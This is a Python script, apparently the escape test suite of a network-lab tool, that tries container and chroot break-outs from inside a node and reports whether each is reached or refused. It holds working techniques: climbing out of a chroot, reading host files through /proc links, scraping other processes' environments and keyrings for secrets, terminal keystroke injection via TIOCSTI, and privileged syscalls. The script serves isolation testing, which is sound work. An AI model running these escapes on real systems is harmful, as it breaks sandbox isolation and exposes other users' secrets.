"""Ways out of a node, to be tried from inside: `python3 attacks.py NAME [ARGUMENT…]`.

Each prints `reached: …` or raises; the last line is then `refused: …`. The same attack, made on the host where it
must succeed, proves that the attack itself works. Standard library only: it runs in nodes.
"""

import ctypes
import fcntl
import glob
import os
import socket
import struct
import sys
import termios
import time

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWCGROUP = 0x10000000, 0x02000000
KEYCTL_JOIN, KEYCTL_SEARCH, SESSION_KEYRING = 1, 10, -3
CALLS = {
    "x86_64": (250, 248, 425, 321, 298, 323, 103, 304, 175),
    "aarch64": (219, 217, 425, 280, 241, 282, 116, 265, 105),
}
KEYCTL, ADD_KEY, IO_URING_SETUP, BPF, PERF_EVENT_OPEN, USERFAULTFD, SYSLOG, OPEN_BY_HANDLE, INIT_MODULE = CALLS[
    os.uname().machine
]
ZEROS = bytes(256)


def call(number, *arguments):
    return check(LIBC.syscall(number, *arguments))


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def tcp(address, port):
    with socket.create_connection((address, int(port)), timeout=1) as connection:
        return connection.recv(64)


def abstract(name):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect("\0" + name)
        return connection.recv(64)


def family(number):
    return socket.socket(int(number), socket.SOCK_STREAM)


def key(name):
    return call(KEYCTL, KEYCTL_SEARCH, SESSION_KEYRING, b"user", name.encode(), 0)


def with_key(name, *argv):
    """Not an attack: runs a command in a session that holds a key, as a desktop's or a Kerberos user's does."""
    call(KEYCTL, KEYCTL_JOIN, None)
    call(ADD_KEY, b"user", name.encode(), b"secret", 6, SESSION_KEYRING)
    os.execvp(argv[0], argv)


def cgroups():
    check(LIBC.unshare(CLONE_NEWUSER))
    check(LIBC.unshare(CLONE_NEWCGROUP))
    return "a cgroup namespace"


def io_uring():
    return call(IO_URING_SETUP, 1, ZEROS)


def file(path):
    """By its name, and by every root, folder and open file that can be seen in /proc; then with all mounts gone."""
    inside = path.lstrip("/")
    starts = ["/", "/..", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd")]
    starts += glob.glob("/proc/self/fd/*")
    if os.path.isdir("/run/netlab"):  # on a node: out of a chroot by the old trick, and below what is mounted
        starts += ["../" * 40, "/proc/1/root/.."]
        os.makedirs("/tmp/jail", exist_ok=True)
        os.chroot("/tmp/jail")
        starts += ["../" * 40]
        climb()
        for where in ("/sys", "/dev/net/tun", "/dev/tty", "/dev/shm", "/dev/pts", "/run"):
            LIBC.umount2(where.encode(), 2)
            starts.append(where)
    for start in starts:
        for place in (f"{start}/{inside}", f"{start}/{os.path.basename(path)}"):
            if os.path.exists(place):
                with open(place, "rb") as found:
                    return place, found.read(64)
    raise FileNotFoundError(path)


def climb():
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")


def environments(word, seconds):
    """Read the environment of every process that comes by."""
    deadline = time.monotonic() + float(seconds)
    print("watching", flush=True)
    while time.monotonic() < deadline:
        for path in glob.glob("/proc/[0-9]*/environ"):
            try:
                with open(path, "rb") as one:
                    if word.encode() in one.read():
                        return path
            except OSError:
                continue
    raise LookupError(word)


def type_into_terminal(text):
    with open("/dev/tty", "rb+", buffering=0) as terminal:
        for char in text.encode() + b"\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([char]))
    return text


def rewrite_stdin(text):
    with open("/proc/self/fd/0", "w") as again:
        return again.write(text)


def signal(pid):
    os.kill(int(pid), 9)
    return pid


def block_device():
    os.mknod("/tmp/disk", 0o60600, os.makedev(7, 0))
    return "a block device"


def set_clock():
    time.clock_settime(time.CLOCK_REALTIME, time.time())


def kernel_log():
    return call(SYSLOG, 3, ctypes.create_string_buffer(64), 64)


def interfaces_of(name):
    """Ask for the interfaces of the network that the other end of a cable is in (IFLA_TARGET_NETNSID)."""
    with os.popen(f"ip -o link show {name}") as answer:
        words = answer.read().split()
    peer = int(words[words.index("link-netnsid") + 1].strip("\\"))
    body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HHi", 8, 46, peer)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.settimeout(1)
        netlink.send(struct.pack("=IHHII", 16 + len(body), 18, 0x301, 1, 0) + body)
        data = netlink.recv(1 << 17)
    kind = struct.unpack_from("=H", data, 4)[0]
    if kind != 16 or len(data) < 100:
        raise PermissionError("nothing is listed")
    return len(data)


REFUSED_CALLS = {
    "bpf": lambda: call(BPF, 5, ZEROS, 128),
    "perf": lambda: call(PERF_EVENT_OPEN, ZEROS, 0, -1, -1, 0),
    "userfaultfd": lambda: call(USERFAULTFD, 1),
    "handle": lambda: call(OPEN_BY_HANDLE, -100, ZEROS, 0),
    "module": lambda: call(INIT_MODULE, ZEROS, 1, ZEROS),
    "add_key": lambda: call(ADD_KEY, b"user", b"x", b"y", 1, SESSION_KEYRING),
}


if __name__ == "__main__":
    what, *rest = sys.argv[1:]
    try:
        print("reached:", (globals().get(what) or REFUSED_CALLS[what])(*rest))
    except (OSError, LookupError) as wrong:
        print("refused:", wrong)
